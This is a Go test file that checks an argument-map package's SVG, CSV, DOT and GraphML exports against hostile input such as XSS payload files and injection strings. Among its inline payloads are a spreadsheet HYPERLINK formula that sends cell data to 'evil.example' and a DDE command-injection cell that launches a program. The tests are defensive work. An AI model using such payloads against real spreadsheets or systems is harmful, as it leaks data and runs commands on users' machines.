package argmap_test

import (
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/spanmark/spanmark/annotations"
	"github.com/spanmark/spanmark/annotations/argmap"
)

// hostilePayloads reads the payloads of testdata/hostile/xss, plus a few
// aimed at the export formats: spreadsheet formulas, DOT escapes and
// characters XML does not allow.
func hostilePayloads(t testing.TB) []string {
	t.Helper()
	paths, err := filepath.Glob("../../testdata/hostile/xss/*.txt")
	if err != nil || len(paths) < 40 {
		t.Fatalf("hostile payloads: %d files, %v", len(paths), err)
	}
	var out []string
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, strings.TrimSuffix(string(b), "\n"))
	}
	return append(out,
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1",
		`\N\G" -> x [label="y`, "a]\n}\ndigraph x {", "nul\x00esc\x1b", `]]><x/><![CDATA[`)
}

// hostileMap puts each payload in an actor's entity and quote, a claim's
// quote and note, a document's name, an annotator and an annotation id.
func hostileMap(t testing.TB) (*argmap.Map, []string) {
	t.Helper()
	payloads := hostilePayloads(t)
	var srcs []argmap.Source
	for i, p := range payloads {
		srcs = append(srcs, argmap.Source{Document: p, Annotator: p, Schema: annotations.DefaultSchema(),
			Annotations: []annotations.Annotation{
				{ID: "a1", Label: "actor", Start: 0, End: 1, Quote: p, Entity: p},
				{ID: "a2", Label: "actor", Start: 1, End: 2, Quote: p + " (quote)"},
				{ID: p, Label: "claim", Start: 2, End: 3, Quote: p, Note: p},
				{ID: "a4", Label: "proposal", Start: 3, End: 4, Quote: p, Note: strconv.Itoa(i)},
			},
			Relations: []annotations.Relation{
				{ID: "r1", Type: "source", From: p, To: "a1"},
				{ID: "r2", Type: "target", From: p, To: "a2"},
				{ID: "r3", Type: "source", From: "a4", To: "a1"},
			}})
	}
	return argmap.New(srcs), payloads
}

// xmlSafe is what a payload becomes in XML: characters XML cannot hold
// are U+FFFD.
func xmlSafe(s string) string {
	return strings.Map(func(r rune) rune {
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' {
			return '\uFFFD'
		}
		return r
	}, s)
}

// svgElements are the only elements the drawing writes.
var svgElements = []string{"svg", "title", "desc", "style", "defs", "marker", "path", "g", "circle", "text"}

func TestSVGHostile(t *testing.T) {
	m, payloads := hostileMap(t)
	svg := argmap.Layout(m).SVG()
	dec := xml.NewDecoder(strings.NewReader(svg))
	var texts []string
	styles := 0
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("the SVG is not well-formed XML: %v", err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if !slices.Contains(svgElements, tok.Name.Local) {
				t.Errorf("element <%s> in the SVG", tok.Name.Local)
			}
			if tok.Name.Local == "style" {
				styles++
			}
			for _, a := range tok.Attr {
				name := strings.ToLower(a.Name.Local)
				if strings.HasPrefix(name, "on") || name == "href" || name == "src" || name == "style" || a.Name.Space != "" {
					t.Errorf("attribute %s:%s=%q on <%s>", a.Name.Space, a.Name.Local, a.Value, tok.Name.Local)
				}
				if name == "aria-label" || strings.HasPrefix(name, "data-") {
					texts = append(texts, a.Value)
				}
			}
		case xml.CharData:
			texts = append(texts, string(tok))
		case xml.ProcInst, xml.Directive, xml.Comment:
			t.Errorf("unexpected %T in the SVG: %q", tok, tok)
		}
	}
	if styles != 1 {
		t.Errorf("%d style elements, want 1 (ours)", styles)
	}
	all := strings.Join(texts, "\x00")
	for _, p := range payloads {
		if !strings.Contains(all, xmlSafe(p)) {
			t.Errorf("payload %q is not in the SVG's text as it was", p)
		}
	}
}

func TestCSVHostile(t *testing.T) {
	m, payloads := hostileMap(t)
	r := csv.NewReader(strings.NewReader(m.CSV()))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if len(rows) != len(m.Statements)+1 || !slices.Equal(rows[0], argmap.TableHeader) {
		t.Fatalf("%d rows with header %q, want %d and %q", len(rows), rows[0], len(m.Statements)+1, argmap.TableHeader)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s: %q could run as a formula", i, rows[0][j], cell)
			}
		}
	}
	// A cell holds its payload, after the apostrophe when there is one.
	for i, s := range m.Statements {
		row := rows[i+1]
		if want := payloads[s.Document]; row[0] != want && row[0] != "'"+want {
			t.Errorf("row %d: document %q, want %q", i+1, row[0], want)
		}
		if want := s.Quote; row[6] != want && row[6] != "'"+want {
			t.Errorf("row %d: quote %q, want %q", i+1, row[6], want)
		}
	}
}

// dotTokens splits DOT text into identifiers, numbers, punctuation and
// quoted strings (unescaped), failing on anything else; outside strings
// there can be no markup.
func dotTokens(t *testing.T, dot string) (tokens []string, strs []string) {
	t.Helper()
	for i := 0; i < len(dot); {
		c := dot[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n':
			i++
		case c == '"':
			var b strings.Builder
			j := i + 1
			for ; j < len(dot) && dot[j] != '"'; j++ {
				if dot[j] == '\\' && j+1 < len(dot) {
					j++
					switch dot[j] {
					case 'n':
						b.WriteByte('\n')
					case '"', '\\':
						b.WriteByte(dot[j])
					default:
						t.Fatalf("escape \\%c at %d leaks a Graphviz escape", dot[j], j)
					}
					continue
				}
				if dot[j] == '\n' || dot[j] == '\r' {
					t.Fatalf("raw line break in a string at %d", j)
				}
				b.WriteByte(dot[j])
			}
			if j == len(dot) {
				t.Fatalf("unterminated string at %d", i)
			}
			strs = append(strs, b.String())
			tokens = append(tokens, `"`)
			i = j + 1
		case strings.HasPrefix(dot[i:], "->"):
			tokens = append(tokens, "->")
			i += 2
		case strings.IndexByte("{}[]=,;", c) >= 0:
			tokens = append(tokens, string(c))
			i++
		case c == '_' || c == '.' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9':
			j := i
			for j < len(dot) && (dot[j] == '_' || dot[j] == '.' || dot[j] >= 'a' && dot[j] <= 'z' || dot[j] >= 'A' && dot[j] <= 'Z' || dot[j] >= '0' && dot[j] <= '9') {
				j++
			}
			tokens = append(tokens, dot[i:j])
			i = j
		default:
			t.Fatalf("unexpected %q at %d outside a string", c, i)
		}
	}
	return tokens, strs
}

func TestDOTHostile(t *testing.T) {
	m, payloads := hostileMap(t)
	dot := m.DOT()
	tokens, strs := dotTokens(t, dot)
	if len(tokens) < 3 || tokens[0] != "digraph" || tokens[2] != "{" || tokens[len(tokens)-1] != "}" {
		t.Fatalf("not one digraph: starts %q, ends %q", tokens[:3], tokens[len(tokens)-1])
	}
	depth := 0
	for _, tok := range tokens {
		switch tok {
		case "{", "[":
			depth++
		case "}", "]":
			depth--
		}
		if depth < 0 {
			t.Fatal("a bracket closes more than it opened")
		}
	}
	if depth != 0 {
		t.Fatalf("%d brackets left open", depth)
	}
	all := strings.Join(strs, "\x00")
	for _, p := range payloads {
		if want := strings.ReplaceAll(strings.Map(func(r rune) rune {
			if r < 0x20 && r != '\n' && r != '\r' || r == 0x7f {
				return ' '
			}
			return r
		}, p), "\r", ""); !strings.Contains(all, want) {
			t.Errorf("payload %q is not in the DOT strings as it was", p)
		}
	}
}

func TestGraphMLHostile(t *testing.T) {
	m, payloads := hostileMap(t)
	g := checkGraphML(t, m.GraphML())
	all := strings.Join(g.values, "\x00")
	for _, p := range payloads {
		if !strings.Contains(all, xmlSafe(p)) {
			t.Errorf("payload %q is not in the GraphML data as it was", p)
		}
	}
	if g.nodes != len(m.Actors)+len(m.Documents) {
		// Per document: the proposal has no target, so it has a node; the
		// claim has a source and a target, so it is an edge.
		t.Errorf("%d nodes, want %d actors and one statement node per document (%d)", g.nodes, len(m.Actors), len(m.Documents))
	}
}

func TestGraphMLSample(t *testing.T) {
	m := argmap.New(readSources(t, samplePaths...))
	g := checkGraphML(t, m.GraphML())
	linked := 0
	for _, s := range m.Statements {
		if len(s.Sources)+len(s.Targets) > 0 {
			linked++
		}
	}
	if g.nodes < len(m.Actors) || g.edges < linked {
		t.Errorf("%d nodes and %d edges for %d actors and %d linked statements", g.nodes, g.edges, len(m.Actors), linked)
	}
}

// graphml is what checkGraphML found.
type graphml struct {
	nodes, edges int
	values       []string
}

// checkGraphML checks doc against the structure of the GraphML 1.0 schema
// (graphml.xsd) as far as this package uses it: the root and its
// namespace; keys first, with unique ids, a known domain and type; one
// graph with an edge default; nodes and edges with unique ids, and edges
// between declared nodes; data only where their key's domain allows, with
// values of the key's type; and nothing else anywhere.
func checkGraphML(t *testing.T, doc string) graphml {
	t.Helper()
	const ns = "http://graphml.graphdrawing.org/xmlns"
	type key struct{ domain, typ string }
	keys := map[string]key{}
	nodes := map[string]bool{}
	edgeIDs := map[string]bool{}
	type edge struct{ source, target string }
	var edges []edge
	var g graphml
	var stack []string
	sawGraph := false
	dec := xml.NewDecoder(strings.NewReader(doc))
	var dataKey string
	var dataText strings.Builder
	attr := func(se xml.StartElement, name string) (string, bool) {
		for _, a := range se.Attr {
			if a.Name.Space == "" && a.Name.Local == name {
				return a.Value, true
			}
		}
		return "", false
	}
	for {
		tok, err := dec.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("GraphML is not well-formed XML: %v", err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			name := tok.Name.Local
			if tok.Name.Space != ns {
				t.Fatalf("<%s> in namespace %q, want %q", name, tok.Name.Space, ns)
			}
			parent := ""
			if len(stack) > 0 {
				parent = stack[len(stack)-1]
			}
			allowed := map[string][]string{"": {"graphml"}, "graphml": {"key", "graph"}, "graph": {"desc", "node", "edge", "data"},
				"node": {"data"}, "edge": {"data"}}
			if !slices.Contains(allowed[parent], name) {
				t.Fatalf("<%s> inside <%s>", name, parent)
			}
			switch name {
			case "key":
				if sawGraph {
					t.Fatal("a <key> after the <graph>")
				}
				id, _ := attr(tok, "id")
				domain, _ := attr(tok, "for")
				typ, _ := attr(tok, "attr.type")
				if _, dup := keys[id]; id == "" || dup {
					t.Fatalf("key id %q is empty or used twice", id)
				}
				if !slices.Contains([]string{"graph", "node", "edge", "all"}, domain) {
					t.Fatalf("key %s: for=%q", id, domain)
				}
				if !slices.Contains([]string{"boolean", "int", "long", "float", "double", "string"}, typ) {
					t.Fatalf("key %s: attr.type=%q", id, typ)
				}
				if n, ok := attr(tok, "attr.name"); !ok || n == "" {
					t.Fatalf("key %s has no attr.name", id)
				}
				keys[id] = key{domain, typ}
			case "graph":
				if sawGraph {
					t.Fatal("two graphs")
				}
				sawGraph = true
				if d, _ := attr(tok, "edgedefault"); d != "directed" && d != "undirected" {
					t.Fatalf("edgedefault=%q", d)
				}
			case "node":
				id, _ := attr(tok, "id")
				if id == "" || nodes[id] {
					t.Fatalf("node id %q is empty or used twice", id)
				}
				nodes[id] = true
				g.nodes++
			case "edge":
				id, _ := attr(tok, "id")
				if id == "" || edgeIDs[id] {
					t.Fatalf("edge id %q is empty or used twice", id)
				}
				edgeIDs[id] = true
				s, _ := attr(tok, "source")
				d, _ := attr(tok, "target")
				edges = append(edges, edge{s, d})
				g.edges++
			case "data":
				dataKey, _ = attr(tok, "key")
				k, ok := keys[dataKey]
				if !ok {
					t.Fatalf("data key %q is not declared", dataKey)
				}
				if k.domain != parent && k.domain != "all" {
					t.Fatalf("data key %q (for %s) inside <%s>", dataKey, k.domain, parent)
				}
				dataText.Reset()
			}
			stack = append(stack, name)
		case xml.EndElement:
			if stack[len(stack)-1] == "data" {
				v := dataText.String()
				var err error
				switch keys[dataKey].typ {
				case "int", "long":
					_, err = strconv.ParseInt(v, 10, 64)
				case "float", "double":
					_, err = strconv.ParseFloat(v, 64)
				case "boolean":
					if v != "true" && v != "false" {
						err = errors.New("not true or false")
					}
				}
				if err != nil {
					t.Fatalf("data %s = %q: %v", dataKey, v, err)
				}
				g.values = append(g.values, v)
			}
			stack = stack[:len(stack)-1]
		case xml.CharData:
			if len(stack) > 0 && stack[len(stack)-1] == "data" {
				dataText.Write(tok)
			} else if len(stack) > 0 && stack[len(stack)-1] != "desc" && strings.TrimSpace(string(tok)) != "" {
				t.Fatalf("text %q inside <%s>", tok, stack[len(stack)-1])
			}
		case xml.ProcInst:
			if tok.Target != "xml" {
				t.Fatalf("processing instruction %q", tok.Target)
			}
		case xml.Directive, xml.Comment:
			t.Fatalf("unexpected %T", tok)
		}
	}
	if !sawGraph {
		t.Fatal("no graph")
	}
	for _, e := range edges {
		if !nodes[e.source] || !nodes[e.target] {
			t.Fatalf("edge %s -> %s joins an undeclared node", e.source, e.target)
		}
	}
	return g
}

// TestDOTGraphviz has Graphviz read the sample's and the hostile map's
// DOT, when dot is installed: it must parse them without a warning.
func TestDOTGraphviz(t *testing.T) {
	dot, err := exec.LookPath("dot")
	if err != nil {
		t.Skip("Graphviz's dot is not on PATH (apt-get install graphviz)")
	}
	hostile, _ := hostileMap(t)
	for name, m := range map[string]*argmap.Map{"sample": argmap.New(readSources(t, samplePaths...)), "hostile": hostile} {
		t.Run(name, func(t *testing.T) {
			cmd := exec.Command(dot, "-Tsvg")
			cmd.Stdin = strings.NewReader(m.DOT())
			var stderr strings.Builder
			cmd.Stderr = &stderr
			out, err := cmd.Output()
			if err != nil || stderr.Len() > 0 {
				t.Fatalf("dot: %v\n%s", err, stderr.String())
			}
			if !strings.Contains(string(out), "<svg") {
				t.Errorf("dot wrote no SVG:\n%s", out)
			}
		})
	}
}
